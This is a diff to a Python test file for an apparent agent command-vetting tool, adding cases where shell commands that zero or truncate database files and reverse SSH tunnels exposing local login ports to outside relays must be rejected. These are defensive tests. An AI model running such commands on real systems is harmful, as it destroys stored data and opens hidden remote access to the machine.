@@ -478,6 +478,10 @@ def test_round20(
         "sudo rm -rf /var/lib/postgresql/15/main",
         "rm -f /var/lib/redis/dump.rdb",
         "docker volume rm $(docker volume ls -q)",
+        "sudo truncate -s 0 /var/lib/mysql/ibdata1",
+        ": > /var/lib/postgresql/15/main/base/16384/2619",
+        "cp /dev/null /var/lib/redis/dump.rdb",
+        "dd if=/dev/zero of=/var/lib/mongodb/collection-7.wt bs=1M count=1",
     ],
 )
 def test_a_database_s_stored_data_deleted_is_rejected(command: str) -> None:
@@ -485,6 +489,45 @@ def test_a_database_s_stored_data_deleted_is_rejected(command: str) -> None:
     assert outcome is Outcome.REJECTED, [f.title for f in findings]
 
 
+@pytest.mark.parametrize(
+    "command",
+    ["echo 'a=1' > /opt/kafka/config/server.properties", "echo note >> /var/lib/mysql/x.txt"],
+)
+def test_a_service_s_settings_or_an_append_are_no_destroyed_data(command: str) -> None:
+    outcome, findings, _ = decide("bash", {"command": command}, workspace=WS)
+    assert outcome is Outcome.NEEDS_REVIEW, [f.title for f in findings]
+
+
 def test_an_image_s_package_lists_trimmed_is_not_a_database() -> None:
     outcome, findings, _ = decide("bash", {"command": "rm -rf /var/lib/apt/lists/*"}, workspace=WS)
     assert outcome is not Outcome.REJECTED, [f.title for f in findings]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "ssh -f -N -R 2222:localhost:22 relay@203.0.113.50",
+        "ssh -NR0.0.0.0:4444:127.0.0.1:3389 x@198.51.100.9",
+        "ssh -o ServerAliveInterval=30 -R 9000:127.0.0.1:5900 a@relay.example.net",
+        'ssh -o RemoteForward="2222 localhost:22" -N relay@203.0.113.5',
+    ],
+)
+def test_this_machine_s_login_forwarded_to_another_host_is_rejected(command: str) -> None:
+    outcome, findings, _ = decide("bash", {"command": command}, workspace=WS)
+    assert outcome is Outcome.REJECTED, [f.title for f in findings]
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        ("ssh -R 8080:localhost:3000 relay.example.net", Outcome.NEEDS_REVIEW),
+        ("ssh -NR8080:localhost:3000 relay.example.net", Outcome.NEEDS_REVIEW),
+        ("ssh -L 5432:db.internal:5432 bastion", Outcome.APPROVED),
+        ("ssh -p 2200 -i ~/.ssh/deploy deploy@app-1 uptime", Outcome.APPROVED),
+    ],
+)
+def test_other_forwards(command: str, expected: Outcome) -> None:
+    """A reverse forward of another local port needs a person (clustered options too); a
+    local forward and a plain login run."""
+    outcome, findings, _ = decide("bash", {"command": command}, workspace=WS)
+    assert outcome is expected, [f.title for f in findings]
